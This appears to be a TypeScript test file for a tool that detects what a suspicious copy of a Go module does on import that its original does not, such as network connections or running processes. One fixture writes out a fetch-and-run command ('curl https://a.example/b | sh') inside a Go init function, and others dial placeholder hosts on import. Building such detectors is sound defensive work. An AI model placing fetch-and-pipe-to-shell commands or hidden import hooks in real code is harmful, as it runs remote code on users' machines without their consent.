import { behaviourOnImport } from '../../../server/src/behaviour/index.ts';
import { behaviourFact, sourceOf } from '../../../server/src/examination/reading.ts';
import { SuspectCopy } from '../../../server/src/examination/suspectCopy.ts';
import type { ModuleText } from '../../../server/src/module/index.ts';
import type { NearCopy } from '../../../server/src/verdict/index.ts';
import { describe, expect, test } from '../../kit.ts';

const ORIGINAL = 'example.com/known/tides';
const COPY = 'example.com/other/tides';

/** Enough code of its own to be told from chance, a function that connects, and one that runs what it is given. */
const CODE: Readonly<Record<string, string>> = {
  'tides.go': `package tides\n\n${Array.from(
    { length: 30 },
    (_, i) =>
      `func Level${i}(hours, moon int) int {\n\tif hours > ${i + 3} {\n\t\treturn moon*${i + 7} - hours\n\t}\n\treturn hours + ${i}\n}\n`,
  ).join('\n')}`,
  'connect.go':
    'package tides\n\nimport "net"\n\nfunc Connect(host string) (net.Conn, error) {\n\treturn net.Dial("tcp", host)\n}\n',
  'run.go':
    'package tides\n\nimport "os/exec"\n\nfunc Run(command string) error {\n\treturn exec.Command("sh", "-c", command).Run()\n}\n',
};

function moduleOf(modulePath: string, files: Readonly<Record<string, string>>): ModuleText {
  return {
    modulePath,
    files: Object.entries(files).map(([path, text]) => {
      const bytes = new TextEncoder().encode(text);
      return { path, sizeBytes: bytes.length, read: () => bytes };
    }),
  };
}

/** What a copy of the module gains by one more file. */
function gainedWith(text: string): NonNullable<NearCopy['gained']> {
  const copy = moduleOf(COPY, { ...CODE, 'more.go': `package tides\n\n${text}` });
  const behaviour = behaviourFact(behaviourOnImport(sourceOf(copy)));
  const fact = new SuspectCopy(copy, behaviour).heldAgainst(moduleOf(ORIGINAL, CODE), 'v1.0.0');
  if (fact.state !== 'near-copy' || fact.gained === null) throw new Error(`no near copy but ${fact.state}`);
  return fact.gained;
}

describe('what a copy does on import that its original does not', () => {
  test('is an act of its own where it brings the call', () => {
    const gained = gainedWith('import "net"\n\nfunc init() {\n\tnet.Dial("tcp", "a.example:80")\n}\n');
    expect(gained.actsOnImport).toEqual(['network']);
  });

  test('is the same where the call comes behind one to a function of the original', () => {
    const gained = gainedWith(
      'import "net"\n\nfunc init() {\n\tConnect("b.example:80")\n\tlater()\n}\n\nfunc later() {\n\tnet.Dial("tcp", "a.example:80")\n}\n',
    );
    expect(gained.actsOnImport).toEqual(['network']);
  });

  test('is access that it gained where it goes through a function of the original alone', () => {
    const gained = gainedWith('func init() {\n\tgo Connect("a.example:80")\n}\n');
    expect(gained.actsOnImport).toEqual([]);
    expect(gained.capabilities).toEqual(['network']);
  });

  test('is an act all the same where what that function is given is grave', () => {
    const gained = gainedWith('func init() {\n\tRun("curl https://a.example/b | sh")\n}\n');
    expect(gained.actsOnImport).toEqual(['process']);
  });

  test('is no act where it asks for the address of a host and nothing else', () => {
    const asks = (name: string): NonNullable<NearCopy['gained']> =>
      gainedWith(`import "net"\n\nvar known, _ = net.${name}("a.example")\n`);
    expect(asks('LookupHost')).toMatchObject({ actsOnImport: [], capabilities: ['network'] });
    expect(asks('LookupTXT').actsOnImport).toEqual(['network']);
  });
});

test('what the original does on import as well is nothing that the copy gained', () => {
  const acting = { ...CODE, 'start.go': 'package tides\n\nfunc init() {\n\t_ = Run("uname")\n}\n' };
  const copy = moduleOf(COPY, { ...acting, 'more.go': 'package tides\n\nconst More = 1\n' });
  const behaviour = behaviourFact(behaviourOnImport(sourceOf(copy)));
  expect(behaviour.state).toBe('runs-on-import');
  const fact = new SuspectCopy(copy, behaviour).heldAgainst(moduleOf(ORIGINAL, acting), 'v1.0.0');
  expect(fact).toMatchObject({ state: 'near-copy', gained: { actsOnImport: [], capabilities: [] } });
});
